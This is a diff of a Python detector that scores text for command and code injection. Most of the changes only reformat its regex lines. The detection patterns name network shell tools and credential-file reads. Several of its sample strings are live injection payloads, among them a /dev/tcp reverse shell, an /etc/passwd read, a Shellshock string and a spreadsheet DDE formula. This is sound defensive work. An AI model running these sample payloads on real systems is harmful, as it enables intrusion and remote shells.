@@ -1,4 +1,4 @@
-"""Command and code injection: a separator or substitution that hands the rest of a value to a shell or interpreter.
+"""Command and code injection: a separator or substitution that hands the rest of a value to an interpreter.
 
 Words such as ``cat``, ``find`` or ``id`` are English or column names too: they count only with an argument
 that a command has. A value that is a command line of its own (a snippet, a cron line) is no breakout.
@@ -13,71 +13,168 @@ from limen.features.signatures.row import ANY, EDGE, Row, S
 KIND: Final = "command"
 
 _STRONG: Final = (
-    r"whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|ls|pwd|bash|sh|zsh|ksh|nc|ncat|netcat|powershell|pwsh"
-    r"|cmd|python[23]?|perl|php|ruby|chmod|chown|rm|tasklist|systeminfo|certutil|bitsadmin|mkfifo|telnet|base64|xxd"
-    r"|printenv|nohup|awk|sed|grep|ssh|scp|sudo|crontab|phpinfo|hostname|rundll32|regsvr32|mshta|wmic|expr|traceroute"
-    r"|ps|df|lsof|gcc|tcpdump|shutdown|useradd|adduser|getent|lsb_release|dmesg|busybox|tftp|socat|iex|vssadmin"
+    r"whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|ls|pwd|bash|sh|zsh|ksh|nc|ncat|netcat"
+    r"|powershell|pwsh"
+    r"|cmd|python[23]?|perl|php|ruby|chmod|chown|rm|tasklist|systeminfo|certutil|bitsadmin|mkfifo|telnet"
+    r"|base64|xxd"
+    r"|printenv|nohup|awk|sed|grep|ssh|scp|sudo|crontab|phpinfo|hostname|rundll32|regsvr32|mshta|wmic|expr"
+    r"|traceroute"
+    r"|ps|df|lsof|gcc|tcpdump|shutdown|useradd|adduser|getent|lsb_release|dmesg|busybox|tftp|socat|iex"
+    r"|vssadmin"
 )
 _WORDY: Final = (
-    r"id|cat|sleep|ping6?|echo|dir|type|net|find|sort|cut|head|tail|more|less|date|time|kill|top|env|set|export|touch"
-    r"|who|last|host|dig|test|reg|copy|del|start|eval|exec|system|reboot|print|printf|w|cd|mv|cp|tee|su|tr|wc|nl|od"
+    r"id|cat|sleep|ping6?|echo|dir|type|net|find|sort|cut|head|tail|more|less|date|time|kill|top|env|set"
+    r"|export|touch"
+    r"|who|last|host|dig|test|reg|copy|del|start|eval|exec|system|reboot|print|printf|w|cd|mv|cp|tee|su|tr"
+    r"|wc|nl|od"
     r"|passthru|shell_exec|str|ver|arp|route|mail|php|vi|ed|dd|man|at|finger|timeout|waitfor"
 )
 _PATH: Final = r"(?:/(?:usr/)?(?:local/)?s?bin/|c:\\windows\\system32\\)"
 _OPEN: Final = r"(?:;|\|{1,2}|&{1,2}|[\r\n]|`|\$\(|<\(|>\()"
 _GAP: Final = r"[\s'\"({]{0,8}"
-_ARGUMENT: Final = r"\s+(?:-{1,2}[\w]|/[\w.?*]|[~.]{1,2}/|\d|\$|%\w+%|[a-z]:\\|['\"]|https?:|[<>|&;]|[\w.*?-]+\.[\w*]+|user\b)"
+_ARGUMENT: Final = (
+    r"\s+(?:-{1,2}[\w]|/[\w.?*]|[~.]{1,2}/|\d|\$|%\w+%|[a-z]:\\|['\"]|https?:|[<>|&;]|[\w.*?-]+\.[\w*]+"
+    r"|user\b)"
+)
 
 _SUBSTITUTION = re.compile(
-    rf"(?:`|\$\(|<\(){_GAP}(?:(?P<path>{_PATH}\w+)|(?P<strong>{_STRONG})\b|(?P<wordy>{_WORDY})\b)(?P<rest>[^`)]*)", re.I
+    rf"(?:`|\$\(|<\(){_GAP}(?:(?P<path>{_PATH}\w+)|(?P<strong>{_STRONG})\b"
+    rf"|(?P<wordy>{_WORDY})\b)(?P<rest>[^`)]*)",
+    re.IGNORECASE,
 )
 _SEQUENCE = re.compile(
     rf"{_OPEN}{_GAP}(?:(?P<path>{_PATH}\w+)|(?P<strong>{_STRONG})(?=[\s;|&<>)'\"`(/]|\.exe|\Z)"
     rf"|(?P<wordy>{_WORDY})(?={_ARGUMENT}|\s*(?P<end>[;|&`)'\"#}}]|\Z)|[<>(]))",
-    re.I,
+    re.IGNORECASE,
 )
-_STRONG_GOES_ON = re.compile(r"(?:\.exe)?\s*(?:\Z|[;|&<>)'\"`(#]|[-/$%~.\d\\:]|https?:|[\w.-]+\s*[./\\:]|\w+\s*(?:\Z|[;|&<>]))", re.I)
+_STRONG_GOES_ON = re.compile(
+    r"(?:\.exe)?\s*(?:\Z|[;|&<>)'\"`(#]|[-/$%~.\d\\:]|https?:|[\w.-]+\s*[./\\:]|\w+\s*(?:\Z|[;|&<>]))",
+    re.IGNORECASE,
+)
 _SENSITIVE = re.compile(
-    r"/etc/(?:passwd|shadow|hosts|group)|/dev/tcp/|/bin/(?:ba|z|k|da)?sh\b|win\.ini|\bnc\s+-\w*e|>&\s*/dev|id_rsa"
+    r"/etc/(?:passwd|shadow|hosts|group)|/dev/tcp/|/bin/(?:ba|z|k|da)?sh\b|win\.ini|\bnc\s+-\w*e|>&\s*/dev"
+    r"|id_rsa"
     r"|net\s+user\s|/tmp/\w|\|\s*(?:ba|z)?sh\b|-nop\b|downloadstring|/e\?\?/|\$\{?ifs\}?",
-    re.I,
+    re.IGNORECASE,
 )
 _ALONE = re.compile(
-    r"\A\s*(?:(?:powershell|pwsh)(?:\.exe)?\s+-|cmd(?:\.exe)?\s+/[ck]\b|(?:/usr)?/bin/\w+\s+\S|bash\s+-[ci]\b|=\s*cmd\|)", re.I
+    r"\A\s*(?:(?:powershell|pwsh)(?:\.exe)?\s+-|cmd(?:\.exe)?\s+/[ck]\b|(?:/usr)?/bin/\w+\s+\S"
+    r"|bash\s+-[ci]\b|=\s*cmd\|)",
+    re.IGNORECASE,
 )
-_NAMED = re.compile(rf"\A\s*(?:{_STRONG}|{_WORDY})\s+\S", re.I)
-_HOST = re.compile(r"[\w./:-]*[./:\d][\w./:-]*\Z|\Z|[a-z]{1,3}\Z|[^\s]*['\")%]\Z", re.I)
+_NAMED = re.compile(rf"\A\s*(?:{_STRONG}|{_WORDY})\s+\S", re.IGNORECASE)
+_HOST = re.compile(r"[\w./:-]*[./:\d][\w./:-]*\Z|\Z|[a-z]{1,3}\Z|[^\s]*['\")%]\Z", re.IGNORECASE)
 
 ROWS: Final = (
-    Row("command-separator", KIND, 0.0,
-        rf"(?:[;|&`\x0a\x0d]|\$\(|[<>]\(){S}{{0,4}}['\"({{\\]{{0,3}}{S}{{0,4}}(?:/(?:usr/)?(?:local/)?s?bin/|(?:{_STRONG}|{_WORDY})\b)",
-        "a second command", ("x; cat /etc/passwd", "a|id", "$(whoami)", "`id`"), ("salt & pepper",)),
-    Row("command-obscured", KIND, 0.0,
-        rf"\$\{{?ifs|[;|&`(]{S}{{0,4}}\{{?\w{{0,8}}(?:['\"]{{1,2}}|\\)\w{{1,8}}['\"\\]?\w{{0,8}}{S}{{1,4}}/|\{{\w{{1,16}},/"
+    Row(
+        "command-separator",
+        KIND,
+        0.0,
+        rf"(?:[;|&`\x0a\x0d]|\$\(|[<>]\(){S}{{0,4}}['\"({{\\]{{0,3}}{S}{{0,4}}(?:/(?:usr/)?(?:local/)?s?bin"
+        rf"/|(?:{_STRONG}|{_WORDY})\b)",
+        "a second command",
+        ("x; cat /etc/passwd", "a|id", "$(whoami)", "`id`"),
+        ("salt & pepper",),
+    ),
+    Row(
+        "command-obscured",
+        KIND,
+        0.0,
+        rf"\$\{{?ifs|[;|&`(]{S}{{0,4}}\{{?\w{{0,8}}(?:['\"]{{1,2}}|\\)\w{{1,8}}['\"\\]?\w{{0,8}}{S}{{1,4}}/"
+        rf"|\{{\w{{1,16}},/"
         rf"|{EDGE}\w{{1,4}}['\"]{{1,2}}\w{{1,4}}['\"]{{1,2}}\w{{0,4}}{S}",
-        "a command name spelt so that filters miss it", ("x;sleep${IFS}5", ";c\\at /e??/p?sswd"), ("if (x)",)),
-    Row("command-alone", KIND, 0.0,
-        rf"{EDGE}{S}{{0,4}}(?:powershell(?:\.exe)?{S}|pwsh{S}|cmd(?:\.exe)?{S}{{1,4}}/|=cmd\||bash{S}-|/bin/|/usr/bin/)",
-        "an interpreter called by name", ("cmd.exe /c dir",), ("command /c",)),
-    Row("shellshock", KIND, 24.0, rf"\({S}{{0,4}}\){S}{{0,4}}\{{{S}{{0,4}}:?;?{ANY}{{0,16}}\}}{S}{{0,4}};",
-        "a bash function definition with a command behind it (CVE-2014-6271)", ("() { :; }; echo x",), ("f() {}",)),
-    Row("reverse-shell", KIND, 20.0, rf"/dev/(?:tcp|udp)/\w|\bnc(?:\.\w{{1,16}})?{S}{{1,4}}-{ANY}{{0,16}}e{S}{{1,4}}/bin/",
-        "a shell sent over the network", ("bash -i >& /dev/tcp/10.0.0.1/80",), ("/dev/null",)),
-    Row("python-code", KIND, 18.0,
-        rf"__import__{S}{{0,4}}\({S}{{0,4}}['\"]|\bos\.(?:system|popen){S}{{0,4}}\({S}{{0,4}}['\"]|\bsubprocess\.\w{{1,16}}\({S}{{0,4}}\[?['\"]",
-        "Python that runs a command", ("__import__('os').system('id')",), ("import os",)),
-    Row("node-code", KIND, 18.0, rf"\brequire{S}{{0,4}}\({S}{{0,4}}['\"]child_process|process\.mainmodule\.",
-        "Node.js that runs a command", ("require('child_process')",), ("require('express')",)),
-    Row("php-code", KIND, 16.0,
-        rf"<\?(?:php|=)?{ANY}{{0,32}}(?:system|eval|exec|passthru|assert|popen|base64_decode|\$_(?:get|post|request|cookie)|phpinfo){S}{{0,4}}[(\[]"
-        rf"|[;{{.(@]{S}{{0,4}}(?:phpinfo|print|system|passthru|shell_exec|md5|eval|assert){S}{{0,4}}\({ANY}{{0,32}}\){{1,3}}{S}{{0,4}}[;}}.]"
+        "a command name spelt so that filters miss it",
+        ("x;sleep${IFS}5", ";c\\at /e??/p?sswd"),
+        ("if (x)",),
+    ),
+    Row(
+        "command-alone",
+        KIND,
+        0.0,
+        rf"{EDGE}{S}{{0,4}}(?:powershell(?:\.exe)?{S}|pwsh{S}|cmd(?:\.exe)?{S}{{1,4}}/|=cmd\||bash{S}-"
+        rf"|/bin/|/usr/bin/)",
+        "an interpreter called by name",
+        ("cmd.exe /c dir",),
+        ("command /c",),
+    ),
+    Row(
+        "shellshock",
+        KIND,
+        24.0,
+        rf"\({S}{{0,4}}\){S}{{0,4}}\{{{S}{{0,4}}:?;?{ANY}{{0,16}}\}}{S}{{0,4}};",
+        "a bash function definition with a command behind it (CVE-2014-6271)",
+        ("() { :; }; echo x",),
+        ("f() {}",),
+    ),
+    Row(
+        "reverse-shell",
+        KIND,
+        20.0,
+        rf"/dev/(?:tcp|udp)/\w|\bnc(?:\.\w{{1,16}})?{S}{{1,4}}-{ANY}{{0,16}}e{S}{{1,4}}/bin/",
+        "a shell sent over the network",
+        ("bash -i >& /dev/tcp/10.0.0.1/80",),
+        ("/dev/null",),
+    ),
+    Row(
+        "python-code",
+        KIND,
+        18.0,
+        rf"__import__{S}{{0,4}}\({S}{{0,4}}['\"]|\bos\.(?:system|popen){S}{{0,4}}\({S}{{0,4}}['\"]"
+        rf"|\bsubprocess\.\w{{1,16}}\({S}{{0,4}}\[?['\"]",
+        "Python that runs a command",
+        ("__import__('os').system('id')",),
+        ("import os",),
+    ),
+    Row(
+        "node-code",
+        KIND,
+        18.0,
+        rf"\brequire{S}{{0,4}}\({S}{{0,4}}['\"]child_process|process\.mainmodule\.",
+        "Node.js that runs a command",
+        ("require('child_process')",),
+        ("require('express')",),
+    ),
+    Row(
+        "php-code",
+        KIND,
+        16.0,
+        rf"<\?(?:php|=)?{ANY}{{0,32}}(?:system|eval|exec|passthru|assert|popen|base64_decode|\$_(?:get|post"
+        rf"|request|cookie)|phpinfo){S}{{0,4}}[(\[]"
+        rf"|[;{{.(@]{S}{{0,4}}(?:phpinfo|print|system|passthru|shell_exec|md5|eval"
+        rf"|assert){S}{{0,4}}\({ANY}{{0,32}}\){{1,3}}{S}{{0,4}}[;}}.]"
         r"|\$_(?:get|post|request|cookie|server)\b\[",
-        "PHP that is evaluated", ("<?php system('id'); ?>", ";phpinfo();"), ("<?xml version",)),
-    Row("java-code", KIND, 18.0, rf"\bruntime\b{ANY}{{0,16}}getruntime|processbuilder{S}{{0,4}}\(|ognl\.|#context\[|@java\.lang",
-        "Java or OGNL that runs a command", ("java.lang.Runtime.getRuntime().exec",), ("runtime error",)),
-    Row("ssi", KIND, 20.0, rf"<!--#{S}{{0,4}}(?:exec|include|echo|config|printenv)\b", "a server-side include", ('<!--#exec cmd="id"-->',), ("<!-- # -->",)),
-    Row("formula-dde", KIND, 18.0, rf"[=+@-]{S}{{0,4}}cmd\|", "a spreadsheet formula that starts a program", ("=cmd|'/C calc'!A0",), ("=sum(a)",)),
-)  # fmt: skip
+        "PHP that is evaluated",
+        ("<?php system('id'); ?>", ";phpinfo();"),
+        ("<?xml version",),
+    ),
+    Row(
+        "java-code",
+        KIND,
+        18.0,
+        rf"\bruntime\b{ANY}{{0,16}}getruntime|processbuilder{S}{{0,4}}\(|ognl\.|#context\[|@java\.lang",
+        "Java or OGNL that runs a command",
+        ("java.lang.Runtime.getRuntime().exec",),
+        ("runtime error",),
+    ),
+    Row(
+        "ssi",
+        KIND,
+        20.0,
+        rf"<!--#{S}{{0,4}}(?:exec|include|echo|config|printenv)\b",
+        "a server-side include",
+        ('<!--#exec cmd="id"-->',),
+        ("<!-- # -->",),
+    ),
+    Row(
+        "formula-dde",
+        KIND,
+        18.0,
+        rf"[=+@-]{S}{{0,4}}cmd\|",
+        "a spreadsheet formula that starts a program",
+        ("=cmd|'/C calc'!A0",),
+        ("=sum(a)",),
+    ),
+)
 
 
 def judge(text: str) -> float:
@@ -86,7 +183,9 @@ def judge(text: str) -> float:
     best = 0.0
     match = _SUBSTITUTION.search(plain)
     if match:
-        best = _scored(plain, match, 13.0 if match["strong"] or match["path"] or not match["rest"].strip() else 12.0)
+        best = _scored(
+            plain, match, 13.0 if match["strong"] or match["path"] or not match["rest"].strip() else 12.0
+        )
     for number, match in enumerate(_SEQUENCE.finditer(plain)):
         if number >= 8:
             break
@@ -97,9 +196,13 @@ def judge(text: str) -> float:
 
 
 def _unobscured(text: str) -> str:
-    """Take out what a shell takes out: ``${IFS}``, quotes and backslashes inside words, braces round lists."""
+    """Take out what a shell takes out: ``${IFS}``, quotes and backslashes in words, braces round lists."""
     plain = re.sub(r"\$\{?IFS\}?(?:\$\d)?", " ", text, flags=re.IGNORECASE)
-    plain = re.sub(r"(?<=[a-z])(['\"])([a-z]{0,4})\1(?=[a-z ]|\Z)|(?<=[a-z])\\(?=[a-z])|(?<=[a-z])\$@(?=[a-z])", r"\2", plain)
+    plain = re.sub(
+        r"(?<=[a-z])(['\"])([a-z]{0,4})\1(?=[a-z ]|\Z)|(?<=[a-z])\\(?=[a-z])|(?<=[a-z])\$@(?=[a-z])",
+        r"\2",
+        plain,
+    )
     return re.sub(r"\{(\w{1,16}),([^{}]{1,64})\}", r"\1 \2", plain)
 
 
@@ -115,7 +218,9 @@ def _sequence(text: str, match: re.Match[str]) -> float:
     if match["end"] is not None and not rest.strip(" ;|&\"'`)#}"):
         closed = rest.strip() != ""
         likely = _HOST.match(before.rpartition("\n")[2]) is not None
-        return _scored(text, match, (12.5 if closed or any(c.isdigit() for c in before) else 9.0) if likely else 4.0)
+        return _scored(
+            text, match, (12.5 if closed or any(c.isdigit() for c in before) else 9.0) if likely else 4.0
+        )
     if match["end"] is not None:
         return 4.0
     return _scored(text, match, 13.0)
